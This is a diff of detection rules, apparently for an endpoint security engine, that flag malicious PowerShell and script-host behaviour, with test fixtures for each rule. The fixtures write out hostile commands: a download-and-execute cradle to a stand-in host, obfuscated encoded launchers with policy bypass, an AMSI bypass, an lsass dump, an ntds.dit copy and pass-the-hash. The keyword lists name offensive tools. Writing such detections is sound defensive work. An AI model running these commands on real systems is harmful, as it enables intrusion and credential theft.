@@ -16,14 +16,22 @@ detector 'powershell-bxor' do
 end
 
 detector 'powershell-encoded-command' do
-  title    'PowerShell was started hidden, without profile, with an encoded command'
+  title    'PowerShell was started hidden, without profile or policy, with an encoded command'
   severity :high
   attack   'T1059.001', 'T1027.010'
-  match (process_is_likely?('powershell') || process_is_likely?('pwsh')) &&
-        process_start_property_matches_any?(property: command_line, patterns: [/\s[-\/]e(c|n[a-z]*)?\s+['"]?[a-z0-9+\/=]{40,}/i]) &&
-        process_start_property_matches_any?(property: command_line, patterns: [/\s[-\/](nop|noni|w\s+(1|hid)|windowstyle\s+hid|sta\b)/i])
+  match process_is_likely?('powershell', 'pwsh') &&
+        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: :powershell_encoded) &&
+        (process_start_property_matches_any?(property: deobfuscated_command_line, patterns: :powershell_unseen) ||
+         process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\s[-\/](ep|ex[a-z]*)\s+['"]?(bypass|unrestricted)/i]))
   fires_on 'an Empire launcher', process_start(process_name: 'powershell.exe', command_line: 'powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
+  fires_on 'the shortest name', process_start(process_name: 'powershell.exe', command_line: 'powershell -w h -e SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
+  fires_on 'an alias', process_start(process_name: 'pwsh.exe', command_line: 'pwsh /noprofile /ec SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
+  fires_on 'all but a letter', process_start(process_name: 'powershell.exe', command_line: 'powershell -win hid -EncodedComman SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
+  fires_on 'dashes of typography', process_start(process_name: 'powershell.exe', command_line: 'powershell –windowstyl hidden —en SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
+  fires_on 'carets and quotes', process_start(process_name: 'powershell.exe', command_line: 'powershell -e^p b^ypass -e""nc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
   ignores  'a short script', process_start(process_name: 'powershell.exe', command_line: 'powershell -nop -File a.ps1')
+  ignores  'an encoded command that anybody may see', process_start(process_name: 'powershell.exe', command_line: 'powershell -enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
+  ignores  'another option with E', process_start(process_name: 'powershell.exe', command_line: 'powershell -nop -Error SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
 end
 
 detector 'powershell-empire-amsi-bypass' do
@@ -34,14 +42,14 @@ detector 'powershell-empire-amsi-bypass' do
         script_property_includes_any?(property: script_content, strings: ['amsiInitFailed', 'System.Management.Automation.AmsiUtils', 'cachedGroupPolicySettings'])
   fires_on 'in a script block', script(script_content: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')")
   fires_on 'on a command line in two pieces', process_start(process_name: 'powershell.exe', command_line: "powershell $a='amsiInitF'+'ailed'")
-  ignores  'a version question', script(script_content: '$PSVersionTable')
+  ignores  'a script about AMSI', script(script_content: 'Get-MpComputerStatus | Select AMServiceEnabled, AmsiProviders')
 end
 
 detector 'powershell-download-cradle' do
   title    'PowerShell downloads and runs'
   severity :high
   attack   'T1059.001', 'T1105'
-  match (process_is_likely?('powershell') || process_is_likely?('pwsh') || process_is_likely?('cmd')) &&
+  match process_is_likely?('powershell', 'pwsh', 'cmd') &&
         process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['net.webclient', 'downloadstring', 'downloaddata', 'downloadfile', 'invoke-webrequest', 'start-bitstransfer', 'iwr ']) &&
         process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['iex', 'invoke-expression', 'start-process', '.invoke(', '| %', '-join'])
   fires_on 'the classic', process_start(process_name: 'powershell.exe', command_line: "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
@@ -49,12 +57,97 @@ detector 'powershell-download-cradle' do
 end
 
 detector 'powershell-inject-functions' do
-  title    'A script holds functions of known offensive modules'
+  title    'A script injects code into processes'
   severity :high
-  attack   'T1059.001', 'T1055'
-  match script_property_includes_any?(property: script_content, strings: ['Invoke-DllInjection', 'Invoke-ReflectivePEInjection', 'Invoke-Shellcode', 'Invoke-PSInject', 'Invoke-TokenManipulation', 'Get-GPPPassword', 'Invoke-Kerberoast', 'Invoke-BloodHound', 'PowerView', 'Invoke-Inveigh', 'Out-Minidump', 'Invoke-NinjaCopy', 'Get-Keystrokes', 'VirtualAllocEx', 'CreateRemoteThread', 'Invoke-PowerDump', 'Invoke-SMBExec', 'Invoke-WMIExec'])
+  attack   'T1059.001', 'T1055.001', 'T1055.002'
+  match script_property_includes_any?(property: script_content, strings: ['Invoke-DllInjection', 'Invoke-ReflectivePEInjection', 'Invoke-Shellcode', 'Invoke-PSInject', 'VirtualAllocEx', 'CreateRemoteThread'])
   fires_on 'a PowerSploit function', script(script_content: 'function Invoke-DllInjection { }')
-  ignores  'a module list', script(script_content: 'Get-Module -ListAvailable')
+  fires_on 'its parts, under another name', script(script_content: '$h=$k::OpenProcess(0x1f0fff,0,$p); $a=$k::VirtualAllocEx($h,0,$n,0x3000,0x40)')
+  ignores  'a thread of its own', script(script_content: 'Start-ThreadJob { Invoke-Command -ScriptBlock $a }; $k::VirtualAlloc(0,$n,0x3000,4)')
+end
+
+detector 'powershell-token-functions' do
+  title    'A script takes the token of another process'
+  severity :high
+  attack   'T1059.001', 'T1134.001', 'T1134.002'
+  match script_property_includes_any?(property: script_content, strings: ['Invoke-TokenManipulation', 'ImpersonateLoggedOnUser', 'CreateProcessWithTokenW', 'DuplicateTokenEx'])
+  fires_on 'a PowerSploit function', script(script_content: 'Invoke-TokenManipulation -ImpersonateUser -Username "NT AUTHORITY\SYSTEM"')
+  ignores  'a token of the web', script(script_content: '$token = Get-AzAccessToken; Invoke-RestMethod -Headers @{Authorization="Bearer $token"}')
+end
+
+detector 'powershell-kerberoast' do
+  title    'A script asks for Kerberos tickets to break them'
+  severity :high
+  attack   'T1059.001', 'T1558.003'
+  match script_property_includes_any?(property: script_content, strings: ['Invoke-Kerberoast', 'Get-DomainSPNTicket', 'Request-SPNTicket', 'KerberosRequestorSecurityToken'])
+  fires_on 'an Empire function', script(script_content: 'Invoke-Kerberoast -OutputFormat Hashcat')
+  fires_on 'the class of .NET', script(script_content: 'New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList "MSSQLSvc/db1"')
+  ignores  'a list of service names', script(script_content: 'Get-ADUser -Filter {ServicePrincipalName -like "*"} -Properties ServicePrincipalName')
+end
+
+detector 'powershell-group-policy-passwords' do
+  title    'A script looks for passwords in group policy preferences'
+  severity :high
+  attack   'T1059.001', 'T1552.006'
+  match script_property_includes_any?(property: script_content, strings: ['Get-GPPPassword', 'Get-CachedGPPPassword', 'Get-GPPAutologon', 'Get-DecryptedCpassword'])
+  fires_on 'a PowerSploit function', script(script_content: 'Get-GPPPassword -Server dc1')
+  ignores  'a report of policies', script(script_content: 'Get-GPOReport -All -ReportType Html')
+end
+
+detector 'powershell-credential-dump' do
+  title    'A script dumps a process or the SAM'
+  severity :high
+  attack   'T1059.001', 'T1003.001', 'T1003.002'
+  match script_property_includes_any?(property: script_content, strings: ['Out-Minidump', 'MiniDumpWriteDump', 'Invoke-PowerDump', 'Get-PassHashes'])
+  fires_on 'a PowerSploit function', script(script_content: 'Get-Process lsass | Out-Minidump')
+  fires_on 'what it calls', script(script_content: '$m=$w.GetNestedType("NativeMethods","NonPublic").GetMethod("MiniDumpWriteDump",$f)')
+  ignores  'a look at the settings of dumps', script(script_content: 'Get-CimInstance Win32_OSRecoveryConfiguration | Select MiniDumpDirectory')
+end
+
+detector 'powershell-raw-volume-copy' do
+  title    'A script copies locked files from the raw volume'
+  severity :high
+  attack   'T1059.001', 'T1006', 'T1003.002', 'T1003.003'
+  match script_property_includes_any?(property: script_content, strings: ['Invoke-NinjaCopy', 'StealthReadFile'])
+  fires_on 'NinjaCopy', script(script_content: 'Invoke-NinjaCopy -Path c:\windows\ntds\ntds.dit -LocalDestination c:\a.dit')
+  ignores  'an ordinary copy', script(script_content: 'Copy-Item -Path c:\a.dit -Destination \\\\srv\backup')
+end
+
+detector 'powershell-keylogger' do
+  title    'A script reads the keyboard'
+  severity :high
+  attack   'T1059.001', 'T1056.001'
+  match script_property_includes_any?(property: script_content, strings: ['Get-Keystrokes', 'GetAsyncKeyState', 'SetWindowsHookEx'])
+  fires_on 'a PowerSploit function', script(script_content: 'Get-Keystrokes -LogPath c:\k.log')
+  fires_on 'what any other would call', script(script_content: '$s = $api::GetAsyncKeyState($c)')
+  ignores  'a question to a person', script(script_content: '$key = [Console]::ReadKey($true); Read-Host "Press any key"')
+end
+
+detector 'powershell-domain-reconnaissance' do
+  title    'A script maps the domain with BloodHound or PowerView'
+  severity :high
+  attack   'T1059.001', 'T1087.002', 'T1069.002', 'T1482'
+  match script_property_includes_any?(property: script_content, strings: ['Invoke-BloodHound', 'PowerView', 'Invoke-ShareFinder', 'Invoke-UserHunter', 'Find-DomainUserLocation', 'Find-LocalAdminAccess'])
+  fires_on 'BloodHound', script(script_content: 'Invoke-BloodHound -CollectionMethod All')
+  ignores  'a question to the directory', script(script_content: 'Get-ADGroupMember "Domain Admins" | Out-GridView')
+end
+
+detector 'powershell-name-poisoning' do
+  title    'A script answers the name queries of others'
+  severity :high
+  attack   'T1059.001', 'T1557.001'
+  match script_property_includes_any?(property: script_content, strings: ['Invoke-Inveigh', 'Invoke-InveighRelay'])
+  fires_on 'Inveigh', script(script_content: 'Invoke-Inveigh -NBNS Y -LLMNR Y')
+  ignores  'a name query of its own', script(script_content: 'Resolve-DnsName srv1 -LlmnrNetbiosOnly')
+end
+
+detector 'powershell-pass-the-hash-execution' do
+  title    'A script runs commands on other machines with a hash for a password'
+  severity :high
+  attack   'T1059.001', 'T1550.002', 'T1021.002', 'T1047'
+  match script_property_includes_any?(property: script_content, strings: ['Invoke-SMBExec', 'Invoke-WMIExec', 'Invoke-TheHash'])
+  fires_on 'Invoke-TheHash', script(script_content: 'Invoke-WMIExec -Target srv1 -Username bob -Hash 81d310fa34e6a56a31145445891bb7b8 -Command calc')
+  ignores  'WMI with a password', script(script_content: 'Invoke-WmiMethod -ComputerName srv1 -Class Win32_Process -Name Create -ArgumentList calc')
 end
 
 detector 'powershell-empire-stager-script' do
@@ -64,7 +157,9 @@ detector 'powershell-empire-stager-script' do
   match script_property_includes_all?(property: script_content, strings: ['-bxor', '%256']) ||
         script_property_includes_all?(property: script_content, strings: ['frombase64string', 'headers.add', 'downloaddata'])
   fires_on 'RC4 in one line', script(script_content: '$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$_-bxor$S[1]}')
+  fires_on 'a download with a cookie for a key', script(script_content: "$u=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aAB0'));$w.Headers.Add('Cookie','k=v');$d=$w.DownloadData($u)")
   ignores  'base64 alone', script(script_content: '[Convert]::FromBase64String($a)')
+  ignores  'a checksum', script(script_content: '$c = 0; foreach ($b in $bytes) { $c = $c -bxor $b }')
 end
 
 detector 'office-starts-shell' do
@@ -120,7 +215,7 @@ detector 'script-host-runs-from-user-folder' do
   title    'A script host runs a file that a user could have been sent'
   severity :medium
   attack   'T1059.005', 'T1059.007', 'T1204.002'
-  match (process_is_likely?('wscript') || process_is_likely?('cscript')) &&
+  match process_is_likely?('wscript', 'cscript') &&
         process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\\(downloads|appdata\\local\\temp|users\\public|programdata|desktop)\\[^"]*\.(js|jse|vbs|vbe|wsf|sct)\b/i])
   fires_on 'a script in Downloads', process_start(process_name: 'wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\a\Downloads\invoice.js"')
   ignores  'a script of Windows', process_start(process_name: 'cscript.exe', command_line: 'cscript C:\Windows\system32\gatherNetworkInfo.vbs')
@@ -135,14 +230,21 @@ detector 'double-extension' do
   ignores  'an ordinary name', process_start(process_path: 'C:\Program Files\app\image.exe')
 end
 
-detector 'unusual-child-of-explorer-from-downloads' do
-  title    'A program with a payload-like name was started from Downloads'
-  severity :medium
-  attack   'T1204.002'
+detector 'payload-name-from-user-folder' do
+  title       'A program with a payload-like name ran from Downloads or the temporary folder'
+  description <<~TEXT
+    A name is all that this goes by, in places to which mail and archives are saved, and attackers choose names. It finds
+    the careless, who are many.
+  TEXT
+  severity    :medium
+  attack      'T1204.002'
   match process_start_property_includes_any?(property: process_path, strings: ['\downloads\\', '\appdata\local\temp\\']) &&
-        process_start_property_matches_any?(property: process_name, patterns: [/payload|beacon|meterpreter|shellcode|stager|implant|reverse_?shell/i])
+        (process_start_property_matches_any?(property: process_name, patterns: :payload_names) ||
+         process_start_property_matches_any?(property: original_file_name, patterns: :payload_names))
   fires_on 'payload.exe', process_start(process_path: 'C:\Users\a\Downloads\payload.exe', process_name: 'payload.exe')
+  fires_on 'renamed', process_start(process_path: 'C:\Users\a\Downloads\invoice.exe', process_name: 'invoice.exe', original_file_name: 'beacon.exe')
   ignores  'an installer', process_start(process_path: 'C:\Users\a\Downloads\setup.exe', process_name: 'setup.exe')
+  ignores  'an installed program', process_start(process_path: 'C:\Program Files\Estimote\beaconmanager.exe', process_name: 'beaconmanager.exe')
 end
 
 detector 'excel-automation-by-dcom' do
